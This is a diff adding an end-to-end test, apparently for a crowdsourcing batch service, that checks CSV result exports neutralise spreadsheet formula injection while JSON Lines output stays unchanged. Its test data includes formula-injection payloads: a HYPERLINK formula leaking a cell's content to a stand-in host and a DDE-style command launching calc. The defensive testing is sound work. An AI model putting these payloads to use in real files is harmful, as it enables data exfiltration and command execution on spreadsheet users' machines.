@@ -2,6 +2,7 @@
 import csv
 import io
 import json
+import re
 from decimal import Decimal as D
 
 from harness import E2E, SAMPLE_QUESTION
@@ -98,6 +99,53 @@ class Batch(E2E):
         other = self.srv.requester("R2")
         self.err("GetBatchResults", {"BatchId": b["BatchId"]}, other["token"], 404)
         self.err("GetBatchResults", {"BatchId": b["BatchId"], "Format": "xml"}, R, 400)
+
+    def test_csv_results_neutralise_formulas(self):
+        """A cell a spreadsheet would run as a formula (=, +, -, @, tab, CR at its start)
+        comes out of the CSV results with a leading "'"; plain numbers, other text and the
+        JSON Lines results stay exactly as typed."""
+        rq = self.srv.requester("R", deposit="10.00")
+        w = self.srv.worker("w")
+        R = rq["token"]
+        hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=a,b", '="quoted"']
+        plain = ["-3", "+2.5", "10", "0.75", "hello", "a=b", "it's", "- dash list", "-",
+                 "", "1e5", "-.5"]
+        expect = {v: "'" + v for v in hostile + ["- dash list", "-", "-.5"]}
+        rows = "".join(json.dumps({"text": v, "gold": v}) + "\n" for v in hostile + plain)
+        b = self.ok("CreateBatch", batch_body(rows, "jsonl"), R)
+        n = len(hostile) + len(plain)
+        self.assertEqual(b["NumHITs"], n)
+        for _ in range(n):
+            a = self.accept(w["token"], hit_type_id=b["HITTypeId"])
+            got = self.ok("GetMyAssignment", {"AssignmentId": a["AssignmentId"]}, w["token"])
+            text = got["Task"]["Input"]["text"]
+            self.submit(w["token"], a["AssignmentId"], {"label": text, "multi": [text, "x"]})
+
+        res = self.ok("GetBatchResults", {"BatchId": b["BatchId"], "Format": "csv"}, R)
+        table = list(csv.DictReader(io.StringIO(res["Results"], newline="")))
+        self.assertEqual(len(table), n)
+        seen = set()
+        for r in table:
+            v = next(x for x in hostile + plain if expect.get(x, x) == r["Input.text"])
+            seen.add(v)
+            want = expect.get(v, v)
+            self.assertEqual(r["Input.gold"], want, repr(v))
+            self.assertEqual(r["Answer.label"], want, repr(v))
+            # A repeated field is one cell, judged by its start like any other.
+            multi = v + "|x"
+            self.assertEqual(r["Answer.multi"],
+                             "'" + multi if multi[0] in "=+-@\t\r" else multi, repr(v))
+            for cell in r.values():
+                self.assertTrue(cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+                                or re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", cell),
+                                "a formula reaches the spreadsheet: %r" % cell)
+        self.assertEqual(seen, set(hostile + plain))
+
+        res = self.ok("GetBatchResults", {"BatchId": b["BatchId"], "Format": "jsonl"}, R)
+        lines = [json.loads(l) for l in res["Results"].splitlines() if l.strip()]
+        self.assertEqual(sorted(l["Answers"]["label"] for l in lines), sorted(hostile + plain))
+        self.assertEqual(sorted(l["Input"]["text"] for l in lines), sorted(hostile + plain))
 
     def test_jsonl_batch(self):
         rq = self.srv.requester("R", deposit="10.00")
